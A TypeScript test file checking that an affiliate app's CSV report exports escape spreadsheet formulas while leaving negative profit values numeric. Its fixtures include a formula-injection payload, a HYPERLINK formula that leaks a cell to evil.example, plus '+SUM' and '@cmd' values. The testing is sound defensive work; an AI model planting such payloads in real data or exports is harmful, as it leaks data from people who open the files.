import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startTestApp, dialectName, type TestApp } from '../helpers/app.js';
import { api, tokenFor, setupOwner, OWNER, request } from '../helpers/http.js';
import { created } from '../helpers/assert.js';

/*
 * Issue 8.14: every CSV export keeps text that a spreadsheet would run as a formula as text
 * (an affiliate named "=HYPERLINK(…)"), while numbers, negative ones too, stay numbers.
 */

/** Cells of a CSV text without quotes inside cells (what these exports hold). */
const csvRows = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => line.split(',').map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')));

describe(`CSV exports escape formulas (issue 8.14) on ${dialectName()}`, () => {
  let app: TestApp;
  let owner: ReturnType<typeof api>;
  const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1;"click")';

  before(async () => {
    app = await startTestApp();
    await setupOwner(app.url);
    owner = api(app.url, await tokenFor(app.url, OWNER.email, OWNER.password));
    const campaign = created(
      await owner.post('/campaigns', { name: '+SUM(1;2)', productIds: ['sku-1'], approval: 'auto' }),
      'campaign',
    );
    created(
      await owner.post(`/campaigns/${campaign}/payouts`, {
        kind: 'general',
        title: 'Fixed',
        type: 'CPS',
        affiliateCommission: { value: 30, unit: 'fixed' },
      }),
      'payout',
    );
    created(await owner.post('/affiliates', { name: HOSTILE, email: 'x@example.com', refId: 'evil' }), 'affiliate');
    created(await owner.post('/affiliates', { name: '@cmd', email: 'y@example.com', refId: 'at' }), 'affiliate');
    const click = await request(app.url, 'POST', '/t/click', {
      body: { url: `https://shop.example/?a_aid=evil&a_cid=${campaign}` },
    });
    // The commission (30) is more than the sale (10): the profit is negative, a number that starts with "-".
    const sale = await request(app.url, 'POST', '/t/sale', {
      body: { orderId: 'CSV-1', totalCost: 10, productId: 'sku-1', visitorId: click.body.visitorId },
    });
    assert.equal(sale.status, 201, sale.text);
  });
  after(() => app.close());

  for (const [groupBy, hostile] of [
    ['affiliate', HOSTILE],
    ['campaign', '+SUM(1;2)'],
  ] as const) {
    test(`report CSV by ${groupBy}: the label is text, the negative profit a number`, async () => {
      const res = await owner.get(`/reports?groupBy=${groupBy}&format=csv`);
      assert.equal(res.status, 200, res.text);
      const rows = csvRows(res.text);
      const header = rows[0]!;
      const label = header.indexOf('label');
      const profit = header.indexOf('profit');
      const row = rows.find((r) => r[label]?.includes(hostile.slice(1, 10)));
      assert.ok(row, res.text);
      assert.equal(row[label], `'${hostile}`, 'a formula is kept as text');
      assert.equal(row[profit], '-20', 'a negative number is not escaped');
    });
  }
});
